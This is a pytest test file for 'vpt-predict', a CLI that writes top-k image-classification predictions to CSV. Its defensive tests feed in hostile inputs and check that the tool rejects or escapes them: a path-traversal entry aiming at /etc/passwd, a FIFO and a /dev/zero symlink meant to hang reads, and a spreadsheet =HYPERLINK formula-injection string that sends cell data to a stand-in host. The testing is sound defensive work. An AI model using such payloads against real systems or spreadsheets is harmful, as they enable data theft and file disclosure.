"""vpt-predict: image files -> top-k CSV through Trainer.predict, several tasks, unreadable images reported."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import torch
from conftest import save_task_checkpoint, task_probabilities, write_image

from vpt_lightning.cli.predict import main, parse_checkpoints


@pytest.fixture(scope="module")
def tasks(tmp_path_factory):
    root = tmp_path_factory.mktemp("predict")
    torch.manual_seed(0)
    count = save_task_checkpoint(root / "count.ckpt", num_classes=5, class_names=list("abcde"), task_name="count")
    orient = save_task_checkpoint(root / "orient.ckpt", num_classes=3, prompt={"num_tokens": 4})
    for i in range(3):
        write_image(root / "images" / f"{i}.png", seed=i, size=(40, 36))
    (root / "images" / "broken.png").write_bytes(b"\x89PNG not really")
    return root, count, orient


def read_rows(path):
    with open(path, newline="") as handle:
        return list(csv.DictReader(handle))


def test_every_image_with_every_task_and_the_broken_one_reported(tasks, capsys):
    root, count, orient = tasks
    out = root / "predictions.csv"
    assert (
        main(
            [
                str(count),
                str(orient),
                "--images",
                str(root / "images"),
                "--out",
                str(out),
                "--top-k",
                "3",
                "--batch-size",
                "4",
                "--no-progress-bar",
            ]
        )
        == 0
    )
    rows = read_rows(out)
    assert [(r["path"].split("/")[-1], r["task"]) for r in rows] == [
        (f"{i}.png", t) for i in range(3) for t in ("count", "orient")
    ]
    for row in rows:
        path = count if row["task"] == "count" else orient
        probs = task_probabilities(path, row["path"])
        names = list("abcde") if row["task"] == "count" else ["0", "1", "2"]
        top = probs.topk(3)
        assert [row[f"class_{r}"] for r in (1, 2, 3)] == [names[i] for i in top.indices.tolist()]
        assert [float(row[f"probability_{r}"]) for r in (1, 2, 3)] == pytest.approx(top.values.tolist(), abs=1e-5)
    err = capsys.readouterr().err
    assert err.count("broken.png") == 1 and "not an image" in err


def test_csv_list_with_a_task_column_and_names_given(tasks, capsys):
    root, count, orient = tasks
    listing = root / "list.csv"
    listing.write_text("path,task\nimages/0.png,first\nimages/2.png,\nimages/broken.png,second\n")
    out = root / "from_csv.csv"
    args = [
        f"first={count}",
        f"second={orient}",
        "--images",
        str(listing),
        "--task",
        "second",
        "--out",
        str(out),
        "--no-progress-bar",
    ]
    assert main(args) == 0
    assert [(r["path"].split("/")[-1], r["task"]) for r in read_rows(out)] == [("0.png", "first"), ("2.png", "second")]
    assert "broken.png" in capsys.readouterr().err


def test_strict_fails_naming_the_file(tasks, capsys):
    root, count, _ = tasks
    assert (
        main(
            [
                str(count),
                "--images",
                str(root / "images"),
                "--out",
                str(root / "x.csv"),
                "--strict",
                "--no-progress-bar",
            ]
        )
        == 1
    )
    err = capsys.readouterr().err
    assert "unreadable image" in err and "broken.png" in err
    assert not (root / "x.csv").exists()


def test_bad_arguments_are_named(tasks, capsys):
    root, count, orient = tasks
    assert main([str(count), "--images", str(root / "images"), "--task", "nope", "--no-progress-bar"]) == 1
    assert "--task 'nope' is not one of the loaded tasks ['count']" in capsys.readouterr().err
    with pytest.raises(ValueError, match="name every checkpoint"):
        parse_checkpoints([f"a={count}", str(orient)])


def test_csv_paths_must_stay_inside_the_root(tasks, tmp_path, capsys):
    root, count, _ = tasks
    outside = tmp_path / "secret.png"
    write_image(outside, seed=5, size=(20, 20))
    folder = root / "lists"
    folder.mkdir(exist_ok=True)
    for name, line in [
        ("absolute.csv", str(outside)),
        ("dotdot.csv", "../images/0.png"),
        ("far.csv", "../../../../../../etc/passwd"),
    ]:
        listing = folder / name
        listing.write_text(f"path\n{line}\n")
        out = tmp_path / f"{name}.out.csv"
        assert main([str(count), "--images", str(listing), "--out", str(out), "--no-progress-bar"]) == 1
        err = capsys.readouterr().err
        assert "paths must be relative and stay inside the root folder" in err and f"line 2: {line!r}" in err, err
        assert not out.exists()
    # --root: paths are relative to the folder given and confined to it
    out = tmp_path / "rooted.csv"
    listing = folder / "rooted.csv"
    listing.write_text("path\nimages/0.png\n")
    assert (
        main([str(count), "--images", str(listing), "--root", str(root), "--out", str(out), "--no-progress-bar"]) == 0
    )
    assert [r["path"] for r in read_rows(out)] == [str(root.resolve() / "images" / "0.png")]
    listing.write_text("path\nlists/../images/x.png\n")  # inside the root once resolved: allowed (and missing)
    assert (
        main([str(count), "--images", str(listing), "--root", str(root), "--out", str(out), "--no-progress-bar"]) == 0
    )
    assert "x.png: cannot be read (No such file or directory)" in capsys.readouterr().err


def test_fifos_and_devices_are_reported_never_read(tasks, tmp_path):
    root, count, _ = tasks
    folder = tmp_path / "odd"
    write_image(folder / "ok.png", seed=3, size=(20, 20))
    os.mkfifo(folder / "pipe.png")  # opening it for reading would wait for a writer for ever
    (folder / "zero.png").symlink_to("/dev/zero")  # reading it would never end
    (folder / "list.csv").write_text("path\nok.png\npipe.png\n")
    (folder / "devices.csv").write_text(f"path\n{(folder / 'ok.png').relative_to('/')}\ndev/zero\n")
    runs = [
        ([folder / "list.csv"], ("pipe.png",)),  # this one hung vpt-predict, past SIGTERM
        ([folder / "devices.csv", "--root", "/"], ("zero",)),
        ([folder], ("pipe.png", "zero.png")),
    ]
    commands = [[count, "--images", *source, "--out", tmp_path / f"odd{i}.csv"] for i, (source, _) in enumerate(runs)]
    # the three commands in one subprocess with a timeout (a hang is a failure, not a stuck test run)
    done = subprocess.run(
        [sys.executable, "-c", SEVERAL_PREDICTS, json.dumps([[*map(str, c), "--no-progress-bar"] for c in commands])],
        env={**os.environ, "PYTHONPATH": os.pathsep.join([str(Path(__file__).parents[1] / "src"), *sys.path])},
        capture_output=True,
        text=True,
        timeout=180,
    )
    outputs = done.stderr.split("=== next command")[1:]
    assert done.returncode == 0 and len(outputs) == len(runs), done.stderr[-3000:]
    for i, ((_, reported), stderr) in enumerate(zip(runs, outputs)):
        assert "=== exit 0" in stderr, stderr
        for name in reported:
            kind = "a FIFO" if name == "pipe.png" else "a character device"
            assert f"{name}: {kind}, not a regular file: not read" in stderr, stderr
        assert [Path(r["path"]).name for r in read_rows(tmp_path / f"odd{i}.csv")] == ["ok.png"]


SEVERAL_PREDICTS = """
import json, sys
from vpt_lightning.cli.predict import main
for args in json.loads(sys.argv[1]):
    print("=== next command", file=sys.stderr, flush=True)
    print(f"=== exit {main(args)}", file=sys.stderr, flush=True)
"""


def test_files_over_the_size_cap_are_not_read(tasks, tmp_path, capsys):
    root, count, _ = tasks
    folder = tmp_path / "big"
    write_image(folder / "small.png", seed=3, size=(20, 20))
    write_image(folder / "large.png", seed=4, size=(200, 200))
    size = (folder / "large.png").stat().st_size
    out = tmp_path / "big.csv"
    assert (
        main(
            [
                str(count),
                "--images",
                str(folder),
                "--max-file-bytes",
                str(size - 1),
                "--out",
                str(out),
                "--no-progress-bar",
            ]
        )
        == 0
    )
    assert f"large.png: {size} bytes is over the limit of {size - 1} (--max-file-bytes)" in capsys.readouterr().err
    assert [Path(r["path"]).name for r in read_rows(out)] == ["small.png"]
    assert (
        main(
            [str(count), "--images", str(folder), "--max-image-pixels", "1000", "--out", str(out), "--no-progress-bar"]
        )
        == 0
    )
    err = capsys.readouterr().err
    line = next(line for line in err.splitlines() if "large.png" in line)
    assert "40000 pixels" in line and "the limit of 1000" in line
    assert "small.png" not in err


def test_a_folder_or_file_that_is_no_task_source_says_what_it_is_and_what_is_expected(tmp_path, monkeypatch):
    from vpt_lightning.sharing.task_sources import read_task

    protocol = tmp_path / "outputs" / "count" / "protocol" / "vpt_deep"
    run = protocol / "final" / "lr1_wd0" / "seed42"
    (run / "checkpoints").mkdir(parents=True)
    (run / "checkpoints" / "last.ckpt").write_bytes(b"")
    (protocol / "summary.json").write_text("{}")
    with pytest.raises(
        FileNotFoundError,
        match=r"is a vpt-tune protocol folder .*expected a task package .*a run "
        r"folder .*; under it: \['final/lr1_wd0/seed42'\]",
    ):
        read_task(protocol)
    (run / "results.json").write_text("{}")
    (run / "task").mkdir()
    (run / "task" / "config.json").write_text("{}")
    with pytest.raises(ValueError, match=r"results.json' is a file of the run folder '.*seed42'; give that folder"):
        read_task(run / "results.json")
    with pytest.raises(ValueError, match=r"config.json' is a file of the task package '.*seed42/task'; give that"):
        read_task(run / "task" / "config.json")
    # a relative path whose first folder is here is a local path (not a Hub repo id): what is missing, what is there
    monkeypatch.chdir(tmp_path / "outputs")
    with pytest.raises(
        FileNotFoundError,
        match=r"'count/protocol/vpt_dep' does not exist: 'count/protocol' has no "
        r"'vpt_dep' \(run folders there: \['vpt_deep/final/lr1_wd0/seed42'\]\)",
    ):
        read_task("count/protocol/vpt_dep")


def test_text_a_spreadsheet_would_run_is_escaped_in_predictions_csv(tmp_path):
    """A task's class names come from its file: written as cells that start with a formula character, a spreadsheet
    opening predictions.csv would run them (=HYPERLINK sends data away); they start with a single quote instead."""
    names = ['=HYPERLINK("http://127.0.0.1:9/?q="&A1,"open")', "+1+2", "-3", "@SUM(A1)", "\tTAB", "\rCR", "safe"]
    torch.manual_seed(0)
    task = save_task_checkpoint(tmp_path / "task.ckpt", num_classes=len(names), class_names=names)
    write_image(tmp_path / "images" / "a.png", seed=0, size=(32, 32))
    out = tmp_path / "predictions.csv"
    args = [str(task), "--images", str(tmp_path / "images"), "--out", str(out), "--top-k", str(len(names))]
    assert main([*args, "--no-progress-bar"]) == 0
    (row,) = read_rows(out)
    written = sorted(row[f"class_{r}"] for r in range(1, len(names) + 1))
    assert written == sorted(("'" + n if n[0] in "=+-@\t\r" else n) for n in names)
    assert 0 < float(row["probability_1"]) <= 1  # numbers stay numbers


def test_a_csv_field_over_the_csv_limit_is_a_one_line_error(tasks, tmp_path, capsys):
    root, count, _ = tasks
    listing = tmp_path / "list.csv"
    listing.write_text(f"path\nimages/0.png\n{'x' * 200_000}.png\n")
    out = tmp_path / "out.csv"
    assert main([str(count), "--images", str(listing), "--out", str(out), "--no-progress-bar"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("vpt-predict: error: ") and err.count("\n") == 1 and "Traceback" not in err, err
    assert f"{str(listing)!r}: line 3: field larger than field limit" in err and not out.exists()


@pytest.mark.parametrize("command", ["predict", "serve"])
def test_devices_takes_ascii_digits_as_a_count_and_names_a_bad_value(tmp_path, command):
    """'²' is a digit to str.isdigit but not to int: --devices names it as argparse does, before anything loads."""
    from conftest import run_cli_in_process

    from vpt_lightning.cli.task_arguments import lightning_devices

    assert lightning_devices("2") == 2 and lightning_devices("auto") == "auto" and lightning_devices("0,1") == "0,1"
    proc = run_cli_in_process(command, [str(tmp_path / "task"), "--devices", "²"], cwd=tmp_path)
    assert proc.returncode == 2, proc
    assert "--devices" in proc.stderr and "'²'" in proc.stderr and "auto" in proc.stderr, proc.stderr
